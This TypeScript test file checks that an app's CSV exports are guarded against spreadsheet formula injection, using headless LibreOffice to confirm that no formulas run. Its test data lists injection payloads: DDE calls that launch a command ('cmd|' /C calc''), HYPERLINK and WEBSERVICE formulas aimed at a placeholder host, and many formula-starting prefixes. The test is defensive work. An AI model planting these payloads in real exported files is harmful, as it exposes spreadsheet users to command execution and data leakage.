import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine, csvMark } from '#core/features/files/csv.ts';
import { isFullRun, tellHarness } from '#tests/support/harness-line.ts';
import { naughtyStrings } from '#tests/support/naughty-strings.ts';

/** quality.md, figure 14. */
const cells = isFullRun ? 1000 : 100;
const office = spawnSync('which', ['soffice']).status === 0;
if (!office) process.stdout.write('harness 14 is skipped in part: libreoffice-calc-nogui is not installed\n');
const root = path.resolve(import.meta.dirname, '../..');

/** What begins a formula in some spreadsheet, and what one could do. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '"=',
  "'=",
  ';=',
  ',=',
  '\t',
  'x;=',
];
const payloads = [
  '1+1',
  'HYPERLINK("http://example.invalid?"&A1,"open")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://example.invalid")',
  'SUM(1;1)*2',
  "2+3+cmd|' /C calc'!A0;\",",
  'DDE("soffice";"x";"y")',
];

/** Texts that a spreadsheet can hold: no NUL and no unpaired half, and no more than a cell takes. */
const everyHostile: readonly string[] = [
  ...beginnings.flatMap((beginning) => payloads.map((payload) => `${beginning}${payload}`)),
  ...naughtyStrings.filter((text) => text.isWellFormed() && !text.includes('\0') && text.length < 1000),
].flatMap((text) => [text, `${text};=1+1`, `${text}\n=1+1`]);
const step = Math.floor(everyHostile.length / cells);
const hostile = everyHostile.filter((_, index) => index % step === 0);

const comma = '44,34,76,1';
/** How a spreadsheet may be set to read a file: separator, quote, UTF-8, from the first line; each with all it finds. */
const settings = { comma, semicolon: '59,34,76,1', tab: '9,34,76,1', 'all of them': '44/59/9,34,76,1' };

let folder: string;
beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'keystead-csv-'));
});
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

/** Opens a CSV file as a spreadsheet and keeps it in another form. */
function convert(csv: string, read: string, to: string): string {
  const [from, ending = ''] = [path.join(folder, 'out.csv'), to.split(':')[0]];
  const target = path.join(folder, 'converted');
  fs.writeFileSync(from, csv);
  fs.rmSync(target, { recursive: true, force: true });
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  const { status } = spawnSync(
    'soffice',
    [profile, '--headless', `--infilter=CSV:${read}`, '--convert-to', to, '--outdir', target, from],
    { timeout: 120_000, stdio: 'ignore' },
  );
  expect(status).toBe(0);
  return fs.readFileSync(path.join(target, `out.${ending}`), 'utf8');
}

const formulasIn = (csv: string, read: string): number =>
  convert(csv, read, 'fods').match(/table:formula=/g)?.length ?? 0;

const rowOf = (text: string): readonly string[] => ['Ilka Varga', text, '24 Nov 2026', text];
const guarded = `${csvMark}${hostile.map((text) => csvLine(rowOf(text))).join('')}`;

/** Cells of a file; a line end by CR alone comes back from a spreadsheet as LF. */
function rowsIn(csv: string): readonly (readonly string[])[] {
  const { data } = Papa.parse<string[]>(csv.replace(/^\ufeff/, '').trimEnd());
  return data.map((row) => row.map((text) => text.replace(/\r\n?/g, '\n')));
}

describe('a table that Keystead writes', () => {
  it('goes through the one guarded writer', () => {
    // Words of a catalogue are no names of files.
    const codeOf = (file: string) =>
      fs.readFileSync(path.join(root, file), 'utf8').replaceAll(/\bt\('[^']*'\)/gu, '');
    const writers = fs
      .globSync('{electron,shared,renderer}/**/*.{ts,tsx}', { cwd: root })
      .filter((file) => !file.includes('.test.') && !file.includes('importers/'))
      .filter((file) => /\.csv[`'"]|text\/csv|unparse/.test(codeOf(file)))
      .filter((file) => !/(?:files\/csv|\/table-pieces)\.ts/u.test(codeOf(file)));
    // HMIS software reads cells literally: that one format goes past the guard, and its page says so.
    expect(writers.filter((file) => !file.startsWith('electron/core/exporters/hmis/'))).toEqual([]);
    expect(codeOf('electron/core/features/exports/table-pieces.ts')).toContain('files/csv.ts');
  });

  it.skipIf(!office)(
    'runs nothing in a spreadsheet, and its texts stay as they are',
    () => {
      for (const [name, read] of Object.entries(settings))
        expect([name, formulasIn(guarded, read)]).toEqual([name, 0]);
      const asText = `${comma},1/2/2/2/3/2/4/2`;
      const again = convert(guarded, asText, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false');
      const read = rowsIn(again);
      const expected = rowsIn(guarded);
      expect(read.length).toBe(expected.length);
      const changed = expected.filter((row, index) => read[index]?.join('|') !== row.join('|'));
      expect(changed).toEqual([]);
      tellHarness(
        14,
        'CSV in LibreOffice',
        `${String(hostile.length)} hostile cells`,
        '0 formulas, 0 changed',
      );
    },
    600_000,
  );

  it.skipIf(!office)(
    'is noticed by this harness when its cells are not guarded',
    () => {
      expect(formulasIn(Papa.unparse(hostile.slice(0, 30).map(rowOf)), comma)).toBeGreaterThan(0);
    },
    120_000,
  );
});
